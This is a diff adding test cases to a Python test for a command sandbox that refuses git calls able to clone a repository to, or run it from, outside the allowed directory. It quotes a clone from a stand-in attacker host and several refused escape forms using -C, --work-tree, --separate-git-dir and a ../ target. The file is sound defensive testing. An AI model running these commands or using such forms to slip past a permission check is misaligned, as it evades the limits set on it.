@@ -311,6 +311,12 @@ def test_git_cannot_clone_then_run_the_clone(search_path: str) -> None:
     assert is_refused("git clone https://attacker.example/x.git /tmp/clone", ["git"], search_path)
     assert is_refused("git -C /tmp/clone/evil status", ["git"], search_path)
     assert is_refused("git --git-dir=/tmp/clone/evil ls-remote ssh://127.0.0.1/x", ["git"], search_path)
+    assert is_refused("git -C clone/evil status", ["git"], search_path)
+    assert is_refused("git --work-tree=/tmp/clone status", ["git"], search_path)
+    assert is_refused("git clone https://example.com/x.git ../x", ["git"], search_path)
+    assert is_refused("git clone --separate-git-dir=/tmp/g https://example.com/x.git", ["git"], search_path)
+    passes("git clone https://example.com/x.git", ["git"], search_path)
+    passes("git clone --depth 1 https://example.com/x.git x", ["git"], search_path)
 
 
 def test_make_cannot_change_to_another_directory(search_path: str) -> None:
